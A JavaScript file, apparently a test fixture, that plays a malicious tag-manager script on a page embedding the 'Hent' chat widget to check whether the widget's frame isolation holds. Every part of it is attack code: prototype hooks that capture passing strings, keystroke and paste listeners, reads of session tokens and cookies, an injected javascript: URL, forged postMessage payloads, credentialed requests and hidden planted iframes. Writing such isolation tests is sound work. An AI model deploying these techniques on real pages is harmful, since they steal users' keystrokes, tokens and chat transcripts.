// What a tag manager let into the page that shows the chat: it tries what a script of that page can try, and keeps
// every text that it gets: `loot()`. `window.home` is Hent's origin.

window.tried = 0;

(() => {
  const loot = new Set();
  const { add } = loot;
  const { isArray } = Array;
  const { values } = Object;
  const { slice } = String.prototype;
  const [LONGEST, WIDEST, DEEPEST] = [20000, 40, 3];
  let busy = false;

  /** Keeps every text within a value; of what is very large, its beginning. */
  function take(value, depth) {
    if (typeof value === "string") add.call(loot, slice.call(value, 0, LONGEST));
    if (!value || typeof value !== "object" || depth > DEEPEST || value instanceof Node || value === window) return;
    const inside = isArray(value) ? value : values(value);
    for (let at = 0; at < inside.length && at < WIDEST; at += 1) take(inside[at], depth + 1);
  }

  function steal(...what) {
    if (busy) return;
    busy = true;
    try {
      take(what, 0);
    } catch (unreadable) {
      // A window of another origin.
    }
    busy = false;
  }

  window.loot = () => {
    busy = true;
    const all = [...loot];
    busy = false;
    return all;
  };

  function tap(object, name) {
    const original = object && object[name];
    if (typeof original !== "function") return;
    object[name] = function (...args) {
      steal(...args);
      const result = original.apply(this, args);
      steal(result);
      return result;
    };
  }

  for (const name of ["push", "forEach", "map", "concat", "join", "filter", "some", "includes"]) tap(Array.prototype, name);
  for (const name of ["replace", "trim", "split", "slice", "startsWith", "matchAll"]) tap(String.prototype, name);
  for (const name of ["assign", "entries", "keys"]) tap(Object, name);
  for (const name of ["append", "attachShadow", "setAttribute"]) tap(Element.prototype, name);
  for (const name of ["open", "send", "setRequestHeader"]) tap(XMLHttpRequest.prototype, name);
  for (const name of ["fetch", "postMessage", "setTimeout", "structuredClone", "open"]) tap(window, name);
  for (const name of ["json", "text"]) tap(Response.prototype, name);
  for (const name of ["set", "append"]) tap(Headers.prototype, name);
  for (const name of ["getItem", "setItem"]) tap(Storage.prototype, name);
  for (const name of ["parse", "stringify"]) tap(JSON, name);
  tap(Node.prototype, "appendChild");
  tap(Map.prototype, "set");
  tap(TextDecoder.prototype, "decode");
  tap(MessagePort.prototype, "postMessage");
  tap(navigator, "sendBeacon");

  addEventListener("message", ({ origin, data, ports }) => steal(origin, data, ports.length), true);
  for (const kind of ["keydown", "input", "beforeinput", "click", "focusin", "copy", "paste"]) {
    document.addEventListener(kind, (event) => steal(event.key, event.data, event.target.value), true);
  }

  const READS = [
    (frame) => frame.contentDocument.body.innerText,
    (frame) => frame.contentWindow.document.body.innerText,
    (frame) => frame.contentWindow.document.getElementById("messages").innerText,
    (frame) => frame.contentWindow.sessionStorage.getItem("hent.token"),
    (frame) => frame.contentWindow.localStorage,
    (frame) => frame.contentWindow.location.href,
    (frame) => frame.contentWindow.name,
    (frame) => frame.contentWindow.eval("document.body.innerText"),
    (frame) => frame.contentWindow.fetch("/chat/messages"),
    (frame) => frame.contentWindow.getSelection(),
    (frame) => (frame.contentWindow.location = "javascript:parent.postMessage(document.body.innerText, '*')"),
    () => getSelection().selectAllChildren(document.body) || getSelection().toString(),
    (frame) => frame.contentWindow.history.state,
    () => sessionStorage.getItem("hent.token"),
    () => localStorage.getItem("hent.token"),
    () => document.cookie,
    () => performance.getEntries().map((entry) => entry.name),
    () => window.open(`${window.home}/embed/cd29`, "other").document.body.innerText,
  ];

  const FORGED = ["opened", "token", null, 7, { hent: "token" }, { hent: "ready" }, { hent: ["opened"] }];
  const MORE = [{ hent: "constructor" }, { hent: "__proto__" }, { hent: "unread", count: { toString: "x" } }];

  function forge(frame) {
    [...FORGED, ...MORE].forEach((word) => frame.contentWindow.postMessage(word, "*", [new MessageChannel().port2]));
    [...FORGED, ...MORE, { hent: "quit" }].forEach((word) => window.postMessage(word, "*"));
  }

  async function ask(path, options) {
    const response = await fetch(window.home + path, Object.assign({ credentials: "include" }, options));
    steal(response.status, await response.text());
  }

  function askAll() {
    for (const path of ["/embed/cd29", "/chez/cd29", "/chat/messages", "/chat/events", "/chat/transcript"]) {
      ask(path).catch(() => {});
      ask(path, { mode: "no-cors" }).catch(() => {});
    }
    const body = JSON.stringify({ authority: "cd29" });
    ask("/chat/conversations", { method: "POST", body, headers: { "Content-Type": "application/json" } }).catch(() => {});
  }

  /** Frames of its own, which may not be shown, or which speak for the page. */
  function plant() {
    for (const path of ["/", "/chez/cd29", "/embed/cd29", "/chat/messages"]) {
      const frame = document.createElement("iframe");
      frame.src = window.home + path;
      frame.className = "planted";
      document.body.appendChild(frame);
    }
  }

  /** Everything once more, on the chat's own frame if there is one. */
  window.attack = () => {
    const root = document.querySelector("hent-chat");
    const frames = root ? [root.shadowRoot.querySelector("iframe")] : [];
    frames.concat([...document.querySelectorAll("iframe.planted")]).forEach((frame) => {
      READS.forEach((read) => {
        window.tried += 1;
        try {
          steal(read(frame));
        } catch (refused) {
          // What was hoped for.
        }
      });
      forge(frame);
    });
    if (root) steal(root.shadowRoot.innerHTML, document.documentElement.outerHTML);
  };
  window.attackOnce = () => {
    plant();
    askAll();
  };
})();
